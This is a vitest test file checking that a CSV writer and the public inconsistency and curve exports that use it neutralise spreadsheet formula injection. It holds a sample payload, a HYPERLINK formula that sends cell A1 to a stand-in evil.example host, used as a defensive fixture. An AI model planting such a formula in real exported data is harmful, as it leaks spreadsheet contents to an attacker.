// Formula-safe CSV (docs/security.md "Formula-safe CSV"): every download writes through one writer
// (app/lib/csv.ts), so a method named like a formula is text in a spreadsheet wherever it appears —
// the public inconsistency tables and curves as much as the admin ranking export.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvCell, toCsv } from "../../app/lib/csv.ts";
import { inconsistencyCsv, type SuiteInconsistency } from "../../app/.server/inconsistency.server.ts";
import { curvesCsv } from "../../app/.server/curves.server.ts";

const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")';

/** Cells of a CSV line written by toCsv (every cell quoted, quotes doubled). */
const cellsOf = (line: string) => [...line.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => m[1].replace(/""/g, '"'));

describe("the CSV writer", () => {
  it("makes text that a spreadsheet would run inert, and leaves numbers numbers", () => {
    expect(csvCell(FORMULA)).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"`);
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) expect(csvCell(`${start}1+1`)).toBe(`"'${start}1+1"`);
    expect(csvCell(-0.25)).toBe('"-0.25"');
    expect(csvCell(NaN)).toBe('""');
    expect(csvCell("Integrated Gradients, v2")).toBe('"Integrated Gradients, v2"');
    expect(
      toCsv([
        ["a", 1],
        ["b", 2],
      ]),
    ).toBe('"a","1"\r\n"b","2"\r\n');
  });

  it("no text cell ever starts with a formula character, and every cell reads back (fast-check)", () => {
    fc.assert(
      fc.property(fc.array(fc.fullUnicodeString(), { minLength: 1, maxLength: 5 }), (row) => {
        const cells = cellsOf(toCsv([row]).replace(/\r\n$/, ""));
        expect(cells).toHaveLength(row.length);
        cells.forEach((c, i) => {
          expect(c).not.toMatch(/^[=+\-@\t\r]/);
          expect(c === row[i] || c === `'${row[i]}`).toBe(true);
        });
      }),
      { numRuns: 500 },
    );
  });

  it("the public inconsistency tables and curves neutralise a method named like a formula", () => {
    const data: SuiteInconsistency = {
      cases: ["case-a", "case-b"],
      methods: [FORMULA, "Saliency"],
      ranks: [
        [1, 2],
        [2, 1],
      ],
      agreement: {
        cases: [],
        tau: [
          [1, -1],
          [-1, 1],
        ],
        meanTau: -1,
      },
      spread: [
        { method: FORMULA, best: 1, median: 1.5, worst: 2 },
        { method: "Saliency", best: 1, median: 1.5, worst: 2 },
      ],
    };
    for (const table of ["ranks", "spread"] as const) {
      const body = inconsistencyCsv(data, table);
      expect(body, table).not.toMatch(/(^|,|\n)"?=HYPERLINK/);
      expect(body, table).toContain(`"'=HYPERLINK(`);
    }
    expect(inconsistencyCsv(data, "agreement")).toContain('"-1"');
    const curves = curvesCsv({
      task: "t",
      grid: [0, 0.5],
      methods: [{ method: FORMULA, contributor: "@evil", morf: [0.9, 0.1], lerf: null, morfArea: 0.5, lerfArea: NaN }],
    });
    expect(curves).not.toMatch(/(^|,|\n)"?[=@]/);
    expect(curves).toContain(`"'@evil"`);
  });
});
